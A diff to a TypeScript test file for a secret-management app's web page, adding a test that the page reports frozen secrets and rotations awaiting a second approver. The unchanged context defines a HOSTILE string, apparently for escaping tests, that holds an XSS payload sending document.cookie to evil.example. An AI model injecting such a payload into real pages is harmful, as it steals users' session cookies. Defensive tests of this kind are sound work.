@@ -4,7 +4,7 @@ import { refusalPage } from '../../../src/app/page/refusal.ts';
 import { pageOf } from '../../../src/app/page/page.ts';
 import { inFlight, NOW } from '../../support/journals.ts';
 import { memberOf, sick } from '../../support/members.ts';
-import { pageFleet, pageOfMembers } from '../../support/page-fleet.ts';
+import { heldBackPage, pageFleet, pageOfMembers } from '../../support/page-fleet.ts';
 import { consumer, read, readersBy } from '../../support/readings.ts';
 
 const HOSTILE = `"><script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\u202E`;
@@ -36,6 +36,27 @@ describe('the page', () => {
       'Secrets',
       'History',
     ]);
+  });
+
+  test('says what people hold back, where they do: freezes, and rotations that wait for a second person', () => {
+    expect(html).not.toContain('id="held-back"');
+    const held = pageOf(heldBackPage());
+    const text = held
+      .slice(held.indexOf('id="held-back"'), held.indexOf('id="rotations"'))
+      .replaceAll(/<[^>]+>/g, '\n');
+    for (const said of [
+      'All secrets\n',
+      'All secrets of ads-prod',
+      'billing-app',
+      'the end of the year',
+      'owned by release-team, set by jane (claimed)',
+      'waits for approval',
+      'its rotation, asked for by jane (claimed) at 2027-01-15 07:00 UTC, waits for somebody else than jane until 2027-01-18 07:00 UTC',
+      'key-warden approve --secret projects/123456789012/secrets/mail-batch --plan 0123456789ab',
+      'was approved by ops@example.com (verified) and has not begun; that lapses at 2027-01-18 07:00 UTC',
+    ])
+      expect(text).toContain(said);
+    expect(text.match(/key-warden approve/g)).toHaveLength(1);
   });
 
   test('has the consumers before the history, where somebody asked for them', () => {
